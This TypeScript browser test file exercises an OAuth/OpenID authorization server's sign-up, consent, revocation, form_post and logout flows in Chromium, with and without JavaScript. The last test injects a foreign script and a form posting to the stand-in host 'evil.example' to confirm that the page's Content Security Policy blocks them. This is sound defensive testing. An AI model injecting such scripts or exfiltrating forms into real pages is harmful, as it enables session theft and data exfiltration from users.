// A real Chromium: signs up in the middle of an authorization, consents, revokes, signs out; with and without JavaScript (bar 4).
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startListeningWorld } from '../clients/listening-world.ts';
import { launchBrowser } from '../support/chromium.ts';
import { type AppClient, createVerifier, PASSWORD, type TokenSet, type World } from '../support/world.ts';
import { type AppServer, startAppServer } from './app-server.ts';

let world: World;
let appServer: AppServer;
let browser: Browser;
let app: AppClient;

beforeAll(async () => {
  [world, appServer, browser] = await Promise.all([startListeningWorld(), startAppServer(), launchBrowser()]);
  app = await world.registerClient({
    name: 'Photo Box',
    redirectUris: [appServer.redirectUri],
    postLogoutRedirectUris: [`${appServer.origin}/bye`],
    optionalScopes: ['write:tasks'],
  });
});
afterAll(async () => {
  await browser?.close();
  await appServer?.close();
  await world?.close();
});

/** A person with a new browser. What it complains about (the policy of a page above all) is kept. */
async function openBrowser(javaScriptEnabled: boolean) {
  const context = await browser.newContext({ javaScriptEnabled });
  const page = await context.newPage();
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  return { context, page, complaints };
}

async function beginAt(page: Page, parameters: Record<string, string> = {}): Promise<{ verifier: string }> {
  const { verifier, challenge } = createVerifier();
  const scope = 'openid email offline_access read:tasks write:tasks';
  const path = world.authorizationPath(app, challenge, { scope, ...parameters });
  await page.goto(world.app.config.issuer + path);
  return { verifier };
}

async function signUp(page: Page, email: string): Promise<void> {
  await page.getByRole('link', { name: 'Create one' }).click();
  await page.getByLabel('Name').fill('Grace Hopper');
  await page.getByLabel('E-mail').fill(email);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Create account' }).click();
}

async function redeem(verifier: string): Promise<TokenSet> {
  const code = appServer.takeVisit().parameters.get('code') ?? '';
  const answer = await world.redeem(app, { code, verifier });
  expect(answer.status).toBe(200);
  return answer.body as TokenSet;
}

async function introspect({ access_token }: TokenSet) {
  return (await world.introspect(world.api, access_token)).body;
}

/** The cookie of the session, for which an ended sign-in has no more use. */
async function hasSession(context: BrowserContext): Promise<boolean> {
  return (await context.cookies()).some(({ name, value }) => name === 'lk-session' && value !== '');
}

describe.each([
  ['with JavaScript', true],
  ['without JavaScript', false],
] as const)('Chromium %s', (_words, javaScriptEnabled) => {
  test('A20: signs up on the way, allows, sees what has access, revokes it and signs out', async () => {
    const email = `grace-${javaScriptEnabled}@example.com`;
    const { context, page, complaints } = await openBrowser(javaScriptEnabled);
    const { verifier } = await beginAt(page);
    await signUp(page, email);

    expect(await page.getByRole('heading', { level: 1 }).textContent()).toContain(
      'Photo Box wants to use your account',
    );
    expect(await page.getByText(email).count()).toBe(1);
    await page.getByLabel('Change your tasks').uncheck();
    await page.getByRole('button', { name: 'Allow' }).click();
    await page.getByText('Back at the app').waitFor();
    const tokens = await redeem(verifier);
    expect(await introspect(tokens)).toMatchObject({ active: true, username: email, scope: 'read:tasks' });

    await page.goto(`${world.app.config.issuer}/account/access`);
    expect(await page.getByRole('main').textContent()).toContain('Photo Box');
    await page.getByRole('button', { name: /^Revoke/ }).click();
    await page.getByText('Nothing has access yet').waitFor();
    expect(await introspect(tokens)).toEqual({ active: false });

    expect(await hasSession(context)).toBe(true);
    await page.locator('.person-menu summary').click();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('link', { name: 'Sign in' }).first().waitFor();
    expect(await hasSession(context)).toBe(false);
    await page.goto(`${world.app.config.issuer}/account`);
    expect(new URL(page.url()).pathname).toBe('/sign-in');
    expect(complaints).toEqual([]);
    await context.close();
  });

  test('A19: response_mode=form_post reaches the app by POST, through the policy of the page', async () => {
    const { context, page, complaints } = await openBrowser(javaScriptEnabled);
    const { verifier } = await beginAt(page, { response_mode: 'form_post' });
    await signUp(page, `form-${javaScriptEnabled}@example.com`);
    await page.getByRole('button', { name: 'Allow' }).click();
    if (!javaScriptEnabled) await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByText('Back at the app').waitFor();
    const visit = appServer.takeVisit();
    expect(visit.method).toBe('POST');
    const redeemed = await world.redeem(app, { code: visit.parameters.get('code') ?? '', verifier });
    expect(redeemed.status).toBe(200);
    expect(complaints).toEqual([]);
    await context.close();
  });

  test('A19: Deny and Cancel lead back to the app with access_denied', async () => {
    const { context, page, complaints } = await openBrowser(javaScriptEnabled);
    await beginAt(page);
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByText('Back at the app').waitFor();
    expect(appServer.takeVisit().parameters.get('error')).toBe('access_denied');
    await beginAt(page);
    await signUp(page, `deny-${javaScriptEnabled}@example.com`);
    await page.getByRole('button', { name: 'Deny' }).click();
    await page.getByText('Back at the app').waitFor();
    expect(appServer.takeVisit().parameters.get('error')).toBe('access_denied');
    expect(complaints).toEqual([]);
    await context.close();
  });

  test('L01: a sign-out that the app asked for comes back to the app', async () => {
    const { context, page, complaints } = await openBrowser(javaScriptEnabled);
    const { verifier } = await beginAt(page);
    await signUp(page, `bye-${javaScriptEnabled}@example.com`);
    await page.getByRole('button', { name: 'Allow' }).click();
    await page.getByText('Back at the app').waitFor();
    const { id_token } = await redeem(verifier);
    const query = { id_token_hint: id_token, post_logout_redirect_uri: `${appServer.origin}/bye` };
    await page.goto(`${world.app.config.issuer}/logout?${new URLSearchParams(query)}`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.waitForURL(`${appServer.origin}/bye`);
    expect(await hasSession(context)).toBe(false);
    // Once more, of nobody: there is nothing to ask.
    const again = new URLSearchParams({ ...query, state: 'again' });
    await page.goto(`${world.app.config.issuer}/logout?${again}`, { waitUntil: 'commit' });
    if (!javaScriptEnabled) await page.getByRole('button', { name: 'Continue' }).click();
    await page.waitForURL(`${appServer.origin}/bye?state=again`);
    expect(complaints).toEqual([]);
    await context.close();
  });
});

test('A20: a script or a form that is not ours is stopped by the policy, and these tests would see it', async () => {
  const { context, page, complaints } = await openBrowser(true);
  await beginAt(page);
  await page.evaluate(`
    const script = document.createElement('script');
    script.textContent = 'document.title = "stolen"';
    document.body.append(script);
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  `);
  await expect.poll(() => complaints.length).toBe(2);
  expect(complaints.join('\n')).toMatch(/script-src[\s\S]*form-action|form-action[\s\S]*script-src/);
  expect(await page.title()).not.toBe('stolen');
  expect(new URL(page.url()).origin).toBe(world.app.config.issuer);
  await context.close();
});
